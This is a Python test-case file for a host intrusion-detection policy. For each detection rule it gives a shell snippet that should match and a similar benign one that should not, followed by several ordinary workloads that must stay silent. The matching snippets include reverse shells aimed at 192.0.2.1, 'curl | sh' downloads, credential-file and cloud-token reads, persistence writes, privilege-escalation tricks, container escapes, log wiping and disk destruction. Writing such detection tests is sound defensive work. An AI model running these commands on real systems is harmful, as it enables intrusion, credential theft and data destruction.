"""For every rule of the built-in policy: what has to match it, and the nearest thing that must not.

Each text is a shell script that runs in the world that policy_world.py makes, where FILES exist and /usr/bin/dpkg,
/usr/bin/passwd and /usr/sbin/sysctl are the actor as well.
"""

from typing import NamedTuple

from policy_world import Case


class Work(NamedTuple):
    """Ordinary work that must be silent: a script, and the programs that it needs."""

    name: str
    needs: str
    script: str


FILES = """
/home/ann/.ssh/id_rsa /home/ann/.ssh/id_rsa.pub /home/ann/.aws/credentials /home/ann/.aws/config
/home/ann/.kube/config /home/ann/.docker/config.json /home/ann/.netrc /home/ann/.bash_history /home/ann/.bashrc
/home/ann/.mozilla/firefox/x.default/key4.db /home/ann/.config/autostart/mail.desktop
/run/secrets/kubernetes.io/serviceaccount/..2025_01_02/token
/run/secrets/kubernetes.io/serviceaccount/..2025_01_02/ca.crt
/run/udev/rules.d/70-net.rules /run/systemd/system/x.service /etc/kubernetes/admin.conf /etc/kubernetes/pki/ca.crt
/etc/shadow /etc/krb5.keytab /etc/krb5.conf /etc/crontab /etc/cron.d/job /etc/ld.so.preload /etc/pam.d/common-auth
/etc/sudoers /etc/passwd /etc/init.d/service /etc/udev/rules.d/90-x.rules /etc/xdg/autostart/x.desktop
/etc/modules-load.d/x.conf /etc/modules-load.d/y.conf /etc/systemd/system/x.service /etc/profile.d/x.sh
/etc/ssh/sshd_config /var/spool/cron/atjobs/a00001 /var/spool/cron/crontabs/ann /var/log/auth.log /var/log/nginx.log
/srv/www/site/uploads/page.php /srv/www/site/cache/page.php /srv/www/cgroup/release_agent
/srv/www/cgroup/release_agent.txt /srv/host/proc/sysrq-trigger /srv/host/proc/sys/kernel/core_pattern
""".split()

CASES = (
    # credentials
    Case("credential_file_read", "cat /etc/shadow", "/usr/bin/passwd @read /etc/shadow; cat /etc/passwd"),
    Case("ssh_private_key_read", "base64 /home/ann/.ssh/id_rsa",
         "cat /home/ann/.ssh/id_rsa.pub; bin/ssh @read /home/ann/.ssh/id_rsa"),
    Case("cloud_credentials_read", "cp /home/ann/.aws/credentials .",
         "cat /home/ann/.aws/config; bin/aws @read /home/ann/.aws/credentials; : >> /home/ann/.aws/credentials"),
    Case("kube_config_read", "bin/nginx @read /home/ann/.kube/config",
         "bin/kubectl @read /home/ann/.kube/config; : > /home/ann/.kube/config"),
    Case("registry_credentials_read", "grep auth /home/ann/.docker/config.json || true",
         "bin/docker @read /home/ann/.docker/config.json; : > /home/ann/.docker/config.json"),
    Case("application_credentials_read", "head /home/ann/.netrc", "bin/git @read /home/ann/.netrc"),
    Case("service_account_token_read", "cat /run/secrets/kubernetes.io/serviceaccount/..2025_01_02/token",
         "cat /run/secrets/kubernetes.io/serviceaccount/..2025_01_02/ca.crt; "
         "bin/operator @read /run/secrets/kubernetes.io/serviceaccount/..2025_01_02/token"),
    Case("kubelet_credentials_read", "cat /etc/kubernetes/admin.conf",
         "cat /etc/kubernetes/pki/ca.crt; bin/kubelet @read /etc/kubernetes/admin.conf"),
    Case("kerberos_tickets_read", "cp /etc/krb5.keytab copy",
         "bin/sssd @read /etc/krb5.keytab; cat /etc/krb5.conf"),
    Case("browser_passwords_read", "cp /home/ann/.mozilla/firefox/x.default/key4.db .",
         "bin/firefox @read /home/ann/.mozilla/firefox/x.default/key4.db"),
    Case("process_memory_read", "bin/dd @read /proc/self/mem",
         "bin/dd @read /proc/self/maps; bin/rr @read /proc/self/mem"),
    Case("process_memory_written", "bin/patch @append /proc/self/mem",
         "bin/gdb @append /proc/self/mem; bin/patch @read /proc/self/mem"),
    Case("process_environment_read", "strings /proc/self/environ || cat /proc/self/environ",
         "bin/ps @read /proc/self/environ; cat /proc/self/cmdline"),
    Case("cloud_metadata_credentials_requested",
         "bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
         "bin/curl -s http://169.254.169.254/latest/meta-data/instance-id"),
    Case("credential_search", "bin/find / -name id_rsa", "bin/find / -name id_card.png"),
    Case("password_cracker_started", "bin/john hashes", "bin/johnny hashes"),

    # execution
    Case("exec_from_tmp", "cp bin/actor /tmp/ebpfless-case-x; /tmp/ebpfless-case-x; rm /tmp/ebpfless-case-x",
         "cp bin/actor /tmp/ebpfless-case-y; cat /tmp/ebpfless-case-y; rm /tmp/ebpfless-case-y; "
         "mkdir -p /tmp/ebpfless-case-z; cp bin/actor /tmp/ebpfless-case-z/test; /tmp/ebpfless-case-z/test; "
         "rm -r /tmp/ebpfless-case-z"),
    Case("exec_from_shared_memory", "cp bin/actor /dev/shm/x; /dev/shm/x", "cp bin/actor /dev/shm/y; cat /dev/shm/y"),
    Case("exec_from_memory", "bin/actor @memory x bin/actor",
         "bin/runc @memory runc_cloned:/proc/self/exe bin/actor; bin/actor @run bin/memfd"),
    Case("exec_of_deleted_file", "cp bin/actor doomed; bin/actor @deleted ./doomed",
         "cp bin/actor spared; ./spared; rm spared; bin/actor @memory x bin/actor"),
    Case("shell_from_deleted_program", "cp bin/actor doomed; bin/actor @deleted ./doomed @run /bin/sh -c true",
         "cp bin/actor doomed; bin/actor @deleted ./doomed @run bin/worker; bin/actor @run /bin/sh -c true"),
    Case("hidden_executable", "bin/.update", "bin/update.hidden"),
    Case("kernel_thread_name", "bin/actor @named '[kworker/0:1]' bin/actor",
         "bin/actor @named 'kworker [0]' bin/actor"),
    Case("space_in_program_name", "cp bin/actor 'bin/sshd '; 'bin/sshd '", "cp bin/actor 'bin/my sshd'; 'bin/my sshd'"),
    Case("web_server_shell", "bin/nginx @run /bin/sh -c 'ls | wc'; true",
         "bin/nginx @run bin/worker; bin/php-fpm8.2 @run /bin/sh -c '/usr/sbin/sendmail -t -i' || true; "
         "bin/apachectl @run /bin/sh -c true"),
    Case("database_shell", "bin/postgres @run /bin/sh -c 'echo owned'",
         "bin/postgres @run /bin/sh -c 'cp pg_wal/000000010000000000000001 archive' || true; "
         "bin/postgres @run /bin/sh -c 'locale -a'; bin/pg_ctl @run /bin/sh -c 'echo start'"),
    Case("runtime_shell", "bin/java @run /bin/sh -c id; true",
         "bin/java @run /bin/sh -c 'make all'; bin/gradle @run /bin/sh -c id"),
    Case("server_discovery", "bin/nginx @run bin/actor @run bin/whoami", "bin/build @run bin/actor @run bin/whoami"),
    Case("server_discovery", "bin/gunicorn @run bin/sh @run bin/uname -a", "bin/gunicorn @run bin/uname -p"),
    Case("server_download", "bin/redis-server @run bin/curl http://example.org/x",
         "bin/redis-server @run bin/curl http://localhost:8080/health; bin/deploy @run bin/curl http://example.org/x"),
    Case("uploaded_file_executed", "cp bin/actor /srv/www/site/uploads/x; bin/apache2 @run /srv/www/site/uploads/x",
         "cp bin/actor /srv/www/site/uploads/y; bin/deploy @run /srv/www/site/uploads/y; "
         "mkdir -p /srv/www/cgi-bin; cp bin/actor /srv/www/cgi-bin/y; bin/apache2 @run /srv/www/cgi-bin/y"),
    Case("server_page_written", "bin/php-fpm8.2 @create /srv/www/site/uploads/page.php",
         "bin/php-fpm8.2 @create /srv/www/site/cache/page.php; bin/php-fpm8.2 @create /srv/www/site/uploads/cat.jpg; "
         "bin/git @create /srv/www/site/uploads/page.php"),

    # shells for others
    Case("dev_tcp_shell", "bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'",
         "bin/bash -c 'echo > /dev/tcp/192.0.2.1/5432'"),
    Case("netcat_shell", "bin/nc -lvpe 4444 /bin/sh", "bin/nc -lvp 4444; bin/nc -z -c 192.0.2.1 443"),
    Case("socat_shell", "bin/socat TCP:192.0.2.1:443 EXEC:/bin/bash,pty",
         "bin/socat TCP:192.0.2.1:443 EXEC:/usr/bin/date"),
    Case("script_reverse_shell",
         "bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0)'",
         "bin/python3 -c 'import socket;socket.create_connection((\"192.0.2.1\", 443), 2)'"),
    Case("fifo_reverse_shell", "bin/sh -c 'mkfifo f; nc 192.0.2.1 443 < f | sh > f'",
         "bin/sh -c 'mkfifo f; cat f > log'"),
    Case("terminal_for_shell", "bin/python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "bin/python3 -c 'import pty'"),
    Case("tunnel_started", "bin/chisel client 192.0.2.1 R:1080:socks", "bin/chiseled client 192.0.2.1"),
    Case("encoded_command", "bin/sh -c 'echo aWQ= | base64 -d | sh'",
         "bin/sh -c 'echo aWQ= | base64 -d > settings.sh'"),
    Case("encoded_script", "bin/python3 -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'",
         "bin/python3 -c 'import base64;print(base64.b64decode(\"aWQ=\"))'"),
    Case("piped_download", "bin/sh -c 'curl -s http://192.0.2.1/x | sh'",
         "bin/sh -c 'curl -s https://example.org/install | sh'; bin/sh -c 'curl -s http://192.0.2.1/x | tar x'"),
    Case("hidden_download", "bin/wget -qO /tmp/.x http://example.org/x",
         "bin/wget -qO /tmp/x.tar http://example.org/x"),
    Case("miner_started", "bin/xmrig-6.21", "bin/xmr-wallet"),
    Case("mining_pool_given", "bin/worker -o stratum+tcp://pool.example.org:3333", "bin/grep stratum+tcp:// config"),

    # discovery
    Case("network_scanner_started", "bin/nmap -sn 192.0.2.0/24", "bin/nmap-update"),
    Case("enumeration_script_started", "bin/sh ./linpeas.sh", "bin/sh ./build-lines.sh; bin/cat ./linpeas.sh"),
    Case("setuid_search", "bin/find / -perm -4000 -type f", "bin/find . -perm 0644 -type f; bin/find . -perm -755"),
    Case("network_sniffer_started", "bin/tcpdump -i any", "bin/tcpdumpd"),

    # persistence
    Case("cron_job_written", ": >> /etc/cron.d/job",
         "cat /etc/cron.d/job; /usr/bin/dpkg @append /etc/cron.d/job; : >> /var/spool/cron/atjobs/a00001"),
    Case("crontab_from_input", "bin/crontab -", "bin/crontab -l; bin/crontab -u ann jobs"),
    Case("at_job_written", ": >> /var/spool/cron/atjobs/a00001",
         "cat /var/spool/cron/atjobs/a00001; : >> /var/spool/cron/crontabs/ann"),
    Case("systemd_unit_written", ": >> /run/systemd/system/x.service",
         "cat /run/systemd/system/x.service; /usr/bin/dpkg @append /etc/systemd/system/x.service"),
    Case("init_script_written", ": >> /etc/init.d/service",
         "cat /etc/init.d/service; /usr/bin/dpkg @run /bin/sh -c ': >> /etc/init.d/service'"),
    Case("shell_startup_written", "echo >> /home/ann/.bashrc", "cat /home/ann/.bashrc; mkdir clone; : > clone/.bashrc"),
    Case("authorized_keys_written", "mkdir -p keys/.ssh; : > keys/.ssh/authorized_keys",
         "mkdir -p keys/ssh; : > keys/ssh/authorized_keys; cat /etc/ssh/sshd_config"),
    Case("preload_list_written", ": >> /etc/ld.so.preload", "cat /etc/ld.so.preload"),
    Case("pam_changed", ": >> /etc/pam.d/common-auth",
         "cat /etc/pam.d/common-auth; /usr/bin/dpkg @create /etc/pam.d/new"),
    Case("sudoers_changed", ": >> /etc/sudoers", "cat /etc/sudoers; /usr/bin/dpkg @append /etc/sudoers"),
    Case("account_file_written", ": >> /etc/passwd", "/usr/bin/passwd @append /etc/shadow; cat /etc/passwd"),
    Case("udev_rule_written", ": >> /run/udev/rules.d/70-net.rules",
         "cat /run/udev/rules.d/70-net.rules; /usr/bin/dpkg @append /etc/udev/rules.d/90-x.rules"),
    Case("autostart_entry_written", ": >> /home/ann/.config/autostart/mail.desktop",
         "cat /home/ann/.config/autostart/mail.desktop; : > /home/ann/.config/mail.desktop"),
    Case("module_loading_configured", ": >> /etc/modules-load.d/x.conf",
         "cat /etc/modules-load.d/x.conf; /usr/bin/dpkg @append /etc/modules-load.d/x.conf"),
    Case("module_file_inserted", "bin/insmod ./rootkit.ko",
         "bin/insmod /lib/modules/6.1.0/kernel/fs/x.ko; bin/modprobe x"),
    Case("system_program_written", "bin/actor @append /usr/bin/passwd",
         "cat /usr/bin/passwd; /usr/bin/dpkg @append /usr/bin/passwd; bin/actor @create /srv/passwd"),
    Case("library_injected", "LD_PRELOAD=/dev/shm/libx.so bin/actor", "LD_PRELOAD=/usr/lib/libjemalloc.so.2 bin/actor"),
    Case("linker_audit_injected", "LD_AUDIT=/usr/lib/libx.so bin/actor", "LD_AUDITED=/usr/lib/libx.so bin/actor"),
    Case("immutable_flag_changed", "bin/chattr +i /etc/passwd",
         "bin/chattr +C data; /usr/bin/dpkg @run bin/chattr +i x"),

    # privileges
    Case("sudo_negative_user", "bin/sudo -u#-1 id", "bin/sudo -u '#1000' id"),
    Case("sudoedit_overflow", "bin/sudoedit -s 'AAAA\\'", "bin/sudoedit -s 'AAAA'; bin/sudoedit 'a\\b'"),
    Case("pkexec_without_arguments", "bin/actor @nameless bin/pkexec", "bin/pkexec; bin/pkexec true"),
    Case("linker_tunables_overflow", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A bin/su",
         "GLIBC_TUNABLES=glibc.malloc.mxfast=64:glibc.malloc.check=1 bin/su"),
    Case("shell_with_borrowed_root", "bin/actor @as-root /bin/sh -c true", "bin/actor @as-root bin/actor; sh -c true"),
    Case("shell_escape", "bin/sudo @run bin/less @run bin/sh", "bin/sudo @run bin/sh; bin/less @run bin/sh"),
    Case("setuid_shell_made", "bin/chmod u+s ./bash; true",
         "bin/chmod 0755 ./bash; bin/chmod 1777 /tmp/; bin/chmod 4755 tool"),
    Case("root_account_made", "bin/useradd -o -u 0 eve", "bin/useradd -o -u 1000 eve"),
    Case("admin_group_joined", "bin/usermod -aG sudo eve", "bin/usermod -aG audio eve"),
    Case("setuid_program_crashed", "bin/actor @as-root bin/actor @crash || true", "bin/actor @crash || true"),
    Case("system_program_crashed", "/usr/sbin/sysctl @crash || true", "bin/actor @crash || true"),
    Case("debugger_attached", "bin/gdb -p 1234", "bin/gdb ./program core"),

    # containers
    Case("package_installed_in_container", ". ./contain; bin/apt-get install -y nmap",
         ". ./contain; bin/apt-get update; CI=true bin/apt-get install -y nmap"),
    Case("compiler_in_container", ". ./contain; bin/gcc -o exploit exploit.c",
         ". ./contain; bin/gcc --version; CI=true bin/gcc -o x x.c"),
    Case("terminal_in_container", ". ./contain; bin/actor @terminal bin/bash; true",
         ". ./contain; bin/actor @run bin/bash; bin/actor @terminal bin/bash build.sh; true"),
    Case("namespace_of_host_entered", "bin/nsenter -t 1 -m -u sh", "bin/nsenter -t 1234 -n ip address"),
    Case("chroot_to_host", ". ./contain; bin/chroot /host sh", ". ./contain; bin/chroot /srv/build sh; true"),
    Case("disk_mounted_in_container", ". ./contain; bin/mount /dev/sda1 x",
         ". ./contain; bin/mount -t tmpfs none x; true"),
    Case("cgroup_escape", ": >> /srv/www/cgroup/release_agent",
         "cat /srv/www/cgroup/release_agent; : >> /srv/www/cgroup/release_agent.txt"),
    Case("kernel_helper_set", ": >> /srv/host/proc/sys/kernel/core_pattern",
         "cat /srv/host/proc/sys/kernel/core_pattern; /usr/sbin/sysctl @append /srv/host/proc/sys/kernel/core_pattern"),
    Case("sysrq_triggered", ": >> /srv/host/proc/sysrq-trigger", "cat /srv/host/proc/sysrq-trigger"),
    Case("container_socket_requested", "bin/curl --unix-socket /run/docker.sock http://x/containers/json",
         "bin/curl --unix-socket /run/app.sock http://x/health; bin/docker -H unix:///run/docker.sock ps"),
    Case("container_with_host_files", "bin/docker run -v /:/host alpine", "bin/docker run -v /srv:/srv alpine"),

    # traces and defences
    Case("history_disabled", "HISTFILE=/dev/null bin/bash", "HISTFILE=/home/ann/.bash_history bin/bash"),
    Case("history_emptied", ": > /home/ann/.bash_history", ": >> /home/ann/.bash_history"),
    Case("history_removed", "bin/rm -f /home/ann/.bash_history", "bin/rm -f my_history.txt; bin/bash -c 'history 10'"),
    Case("log_emptied", ": > /var/log/auth.log", ": >> /var/log/auth.log; : > /var/log/nginx.log"),
    Case("log_removed", "bin/shred -u /var/log/wtmp",
         "bin/shred -u /var/log/app.log; /usr/bin/dpkg @run bin/rm /var/log/wtmp"),
    Case("security_tool_stopped", "bin/systemctl stop auditd",
         "bin/systemctl restart auditd; bin/systemctl stop nginx; /usr/bin/dpkg @run bin/systemctl stop auditd"),
    Case("firewall_emptied", "bin/iptables -F", "bin/iptables -t nat -F DOCKER; bin/iptables -L"),
    Case("access_control_disabled", "bin/setenforce 0", "bin/setenforce 1"),
    Case("audit_rules_removed", "bin/auditctl -D", "bin/auditctl -l; bin/auditctl -w /etc -p wa"),
    Case("timestamps_forged", "bin/touch -r /etc/hostname /etc/passwd", "bin/touch -r a b; bin/touch /etc/passwd"),
    Case("disk_overwritten", "bin/dd if=/dev/zero of=/dev/sda bs=1M",
         "bin/dd if=/dev/zero of=disk.img; bin/wipefs /dev/sda"),
    Case("root_directory_removed", "bin/rm -rf --no-preserve-root /", "bin/rm -rf ./root"),

    # further ways to match rules that have more than one
    Case("credential_file_read", "bin/busybox @read /etc/shadow",
         "mkdir applets; ln -s ../bin/busybox applets/login; applets/login @read /etc/shadow"),
    Case("credential_file_read", "read line < /etc/shadow", "/usr/bin/dpkg @run bin/actor @read /etc/shadow"),
    Case("ssh_private_key_read", "bin/httpd @read /home/ann/.ssh/id_rsa", "echo >> /home/ann/.ssh/id_rsa"),
    Case("exec_from_tmp", "mkdir -p /tmp/ebpfless-case-w; cp bin/actor /tmp/ebpfless-case-w/x; "
         "bin/nginx @run /tmp/ebpfless-case-w/x; rm -r /tmp/ebpfless-case-w",
         "mkdir -p /tmp/ebpfless-case-v; cp bin/actor /tmp/ebpfless-case-v/x; "
         "bin/make @run /tmp/ebpfless-case-v/x; rm -r /tmp/ebpfless-case-v"),
    Case("exec_from_tmp", "mkdir -p /tmp/ebpfless-case-s/a; cp bin/actor /tmp/ebpfless-case-s/a/x; "
         "setpriv --reuid 33 --regid 33 --clear-groups /tmp/ebpfless-case-s/a/x; rm -r /tmp/ebpfless-case-s",
         "mkdir -p /tmp/ebpfless-case-r/a; cp bin/actor /tmp/ebpfless-case-r/a/x; "
         "mkdir /tmp/apt-key-gpghome.X; cp bin/actor /tmp/apt-key-gpghome.X/gpg.0.sh; "
         "setpriv --reuid 42 --regid 42 --clear-groups /tmp/apt-key-gpghome.X/gpg.0.sh; rm -r /tmp/apt-key-gpghome.X; "
         "CI=1 setpriv --reuid 33 --regid 33 --clear-groups /tmp/ebpfless-case-r/a/x; "
         "setpriv --reuid 1000 --regid 1000 --clear-groups /tmp/ebpfless-case-r/a/x; rm -r /tmp/ebpfless-case-r"),
    Case("exec_from_tmp", "printf '#!/bin/sh\\n' > /tmp/ebpfless-case-u; chmod +x /tmp/ebpfless-case-u; "
         "/tmp/ebpfless-case-u; rm /tmp/ebpfless-case-u",
         "echo true > /tmp/ebpfless-case-t; sh /tmp/ebpfless-case-t; rm /tmp/ebpfless-case-t"),
    Case("kernel_thread_name", "bin/kworker", "bin/worker"),
    Case("web_server_shell", "bin/php-fpm8.2 @run /bin/sh -c '/usr/sbin/sendmail -t; id'",
         "bin/apache2 @run /bin/sh -c '/usr/bin/rotatelogs /var/log/x 86400' || true"),
    Case("database_shell", "mkdir alpine; ln -s ../bin/busybox alpine/sh; bin/redis-server @run alpine/sh -c id",
         "bin/redis-server @run bin/busybox date"),
    Case("runtime_shell", "bin/node @run /bin/sh -i", "bin/node @run /bin/sh -c 'id --version'"),
    Case("dev_tcp_shell", "bin/bash -c '0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196'",
         "bin/bash -c 'exec 3<>/dev/tcp/192.0.2.1/80; echo GET / >&3; head -1 <&3'"),
    Case("netcat_shell", "bin/ncat 192.0.2.1 443 --sh-exec /bin/sh", "bin/ncat --ssl 192.0.2.1 443"),
    Case("netcat_shell", "bin/nc -c /bin/bash 192.0.2.1 443", "bin/nc -c example.sh 443"),
    Case("script_reverse_shell",
         "bin/perl -e 'use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,\">&S\");exec(\"sh\")'",
         "bin/perl -e 'use Socket; print inet_aton(\"example.org\")'"),
    Case("script_reverse_shell", "bin/php -r '$s=fsockopen(\"192.0.2.1\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
         "bin/php -r 'exec(\"/bin/sh -c true\");'"),
    Case("script_reverse_shell", "bin/ruby -rsocket -e 's=TCPSocket.new(\"192.0.2.1\",1);exec \"sh -i <&3 >&3\"'",
         "bin/ruby -rsocket -e 'puts TCPSocket.gethostbyname(\"x\")'"),
    Case("encoded_command", "bin/bash -c 'eval \"$(echo aWQ= | base64 --decode)\"'",
         "bin/bash -c 'TOKEN=\"$(echo aWQ= | base64 --decode)\"'"),
    Case("encoded_script", "bin/php -r 'eval(base64_decode(\"aWQ=\"));'", "bin/php -r 'echo base64_decode(\"aWQ=\");'"),
    Case("piped_download", "bin/bash -c 'wget -qO- 192.0.2.1/x | sudo bash'", "bin/bash -c 'wget -q 192.0.2.1/x'"),
    Case("mining_pool_given", "bin/worker --donate-level 1", "bin/worker --donate"),
    Case("mining_pool_given", "bin/worker -a rx/0", "bin/worker -a rx"),
    Case("enumeration_script_started", "bin/linpeas.sh", "bin/lines.sh"),
    Case("setuid_search", "bin/find / -perm -u=s", "bin/find / -user ann"),
    Case("cloud_metadata_credentials_requested",
         "bin/wget http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
         "bin/wget http://metadata.google.internal/computeMetadata/v1/instance/id"),
    Case("cron_job_written", ": >> /var/spool/cron/crontabs/ann", "cat /var/spool/cron/crontabs/ann"),
    Case("authorized_keys_written", ": >> /etc/ssh/sshd_config", "/usr/bin/dpkg @append /etc/ssh/sshd_config"),
    Case("shell_startup_written", ": >> /etc/profile.d/x.sh", "/usr/bin/dpkg @append /etc/profile.d/x.sh"),
    Case("pkexec_without_arguments", "GCONV_PATH=. bin/pkexec", "GCONV=. bin/pkexec"),
    Case("setuid_shell_made", "bin/chmod 4755 /tmp/x", "bin/chmod 0755 /tmp/x; bin/chmod 1777 /tmp/x"),
    Case("root_account_made", "bin/usermod -ou0 eve", "bin/usermod -u 100 eve; bin/useradd -u 10 eve"),
    Case("debugger_attached", "bin/strace -f -p 1234", "bin/strace -f ./program"),
    Case("debugger_attached", "bin/gcore 1234", "bin/gdb --args ./program -p 80"),
    Case("terminal_in_container", ". ./contain; bin/actor @terminal bin/sh -i; true",
         "bin/actor @terminal bin/env; . ./contain; bin/actor @terminal bin/bash -c true; true"),
    Case("kernel_helper_set", ". ./contain; /usr/sbin/sysctl @append /srv/host/proc/sys/kernel/core_pattern",
         ". ./contain; /usr/sbin/sysctl @read /srv/host/proc/sys/kernel/core_pattern"),
    Case("container_with_host_files", "bin/docker run --mount type=bind,src=/,dst=/host alpine",
         "bin/docker run --mount type=bind,src=/srv,dst=/host alpine"),
    Case("history_emptied", "cp /dev/null /home/ann/.bash_history; rm /home/ann/.bash_history; umask 077; "
         ": > /home/ann/.bash_history", "cp /home/ann/.bash_history .; mv .bash_history /home/ann/.bash_history"),
    Case("history_disabled", "HISTSIZE=0 bin/bash", "HISTSIZE=1000 bin/bash; HISTSIZE=0 bin/env"),
    Case("history_removed", "bin/bash -c 'unset HISTFILE; id'", "bin/bash -c 'echo $HISTFILE'"),
    Case("log_removed", "bin/rm -rf /var/log", "bin/rm -rf /var/log/nginx; bin/rm -rf ./log"),
    Case("security_tool_stopped", "bin/service auditd stop", "bin/service nginx stop; bin/service auditd status"),
    Case("security_tool_stopped", "bin/pkill -9 falco", "bin/pkill -HUP nginx"),
    Case("firewall_emptied", "bin/nft flush ruleset", "bin/nft list ruleset; bin/nft flush chain ip nat docker"),
    Case("firewall_emptied", "bin/ufw disable", "bin/ufw status; bin/ufw allow 22"),
    Case("firewall_emptied", "bin/iptables -P INPUT ACCEPT", "bin/iptables -P FORWARD DROP"),
    Case("access_control_disabled", "bin/apparmor_parser -R profile", "bin/apparmor_parser -r profile"),
    Case("audit_rules_removed", "bin/auditctl -e 0", "bin/auditctl -e 1"),
    Case("disk_overwritten", "bin/shred -n 1 /dev/nvme0n1", "bin/shred -n 1 file"),
)

WORKS = (
    # Readline begins a history with O_TRUNC and mode 0600, and puts new ones in the place of old ones.
    Work("histories", "bash python3", """
for _ in 1 2; do
    printf 'echo one\\nexit\\n' | HISTFILE=$PWD/.bash_history bash --norc -i 2>/dev/null
    python3 -c 'import readline; readline.add_history("x"); readline.write_history_file(".python_history")'
done
grep -q one .bash_history
grep -q x .python_history
"""),
    Work("bash", "bash", """
cat > script <<'END'
#!/bin/bash
set -eu
declare -A seen; for name in $(ls); do seen[$name]=$(wc -c < "$name"); done
[ -t 0 ] || printf '%s\\n' "${!seen[@]}" | sort | tee list | grep -c . > count
trap 'rm -f list' EXIT; diff <(id -u) <(whoami | wc -l) || hostname; read -r line < count
END
chmod +x script; ./script; bash script; sh -c 'ps; uname -a; echo done'"""),
    Work("build", "gcc make", """
printf '#include <stdio.h>\\nint main(void) { return puts("x") < 0; }\\n' > x.c
printf 'all: x test\\nx: x.o\\n\\tgcc -o $@ $<\\ntest: x\\n\\t./x | grep -q x\\n\\tinstall -m 755 x y\\n' > Makefile
make; gcc --version"""),
    Work("git", "git", """
git init -q here; cd here; touch .bashrc .profile; git add .
git -c user.name=a -c user.email=a@example.org commit -q -m x; cd ..
git clone -q file://$PWD/here there; cd there; git status; git log -p; git gc -q; git fetch -q"""),
    Work("apt", "apt-get", "apt-get --version; apt-cache policy; apt-get --simulate install"),
    Work("dpkg", "dpkg", "dpkg -l; dpkg --audit; dpkg -L dpkg"),
    Work("python", "python3", """
mkdir code; printf 'import subprocess\\nsubprocess.call("id; uname -a", shell=True)\\n' > code/x.py
python3 -m compileall -q code; python3 code/x.py; python3 -c 'import socket; socket.socket().close()'"""),
    Work("pip", "pip", "pip --version; pip list --disable-pip-version-check"),
    Work("perl", "perl", "perl -MSocket -e 'print `id`'; perl -ne 'print if /root/' /etc/passwd"),
    Work("files", "find xargs tar gzip sed awk", """
mkdir -p a/b; touch a/b/c; find . -type f | xargs ls -l; find . -perm -u+x -exec stat {} +; cat /etc/passwd > copy
tar czf a.tar.gz a copy; tar xzf a.tar.gz -C a; sed -i s/root/toor/ copy; awk -F: '{ print $3 }' copy; grep -r root a
dd if=/dev/zero of=zeros bs=4096 count=4; chmod 755 copy; chmod 1777 a; cp -a a z; rm -rf a z; ln -s copy link
base64 copy | base64 -d > again; touch -d yesterday copy; strings copy; env; truncate -s 0 copy; mkfifo pipe"""),
    Work("temporary", "mktemp", """
f=$(mktemp); echo 'echo x' > $f; sh $f; rm $f; d=$(mktemp -d); cp /bin/true $d/x; $d/x; rm -r $d"""),
    Work("nginx", "nginx", """
for kind in client_body proxy fastcgi uwsgi scgi; do echo "${kind}_temp_path $kind;"; done > paths
echo 'server { listen unix:socket; access_log log; }' >> paths
echo 'pid pid; error_log log; events {} http { include paths; }' > nginx.conf
nginx -p $PWD -c $PWD/nginx.conf -e log -t; nginx -p $PWD -c $PWD/nginx.conf -e log
nginx -p $PWD -c $PWD/nginx.conf -e log -s reload; nginx -p $PWD -c $PWD/nginx.conf -e log -s quit"""),
    Work("redis", "redis-server redis-cli", """
redis-server --port 0 --unixsocket $PWD/socket --dir $PWD --daemonize yes --logfile log --pidfile $PWD/pid
until redis-cli -s socket ping; do :; done; redis-cli -s socket set a b; redis-cli -s socket bgsave
redis-cli -s socket shutdown nosave"""),
    Work("postgres", "initdb pg_ctl postgres setpriv", """
chown 65534:65534 .; export LC_ALL=C; as="setpriv --reuid 65534 --regid 65534 --clear-groups"
$as initdb -D data --no-sync --auth trust; $as pg_ctl -D data -w -l log -o "-k $PWD -c listen_addresses=" start
$as pg_ctl -D data -w -m immediate stop"""),
)
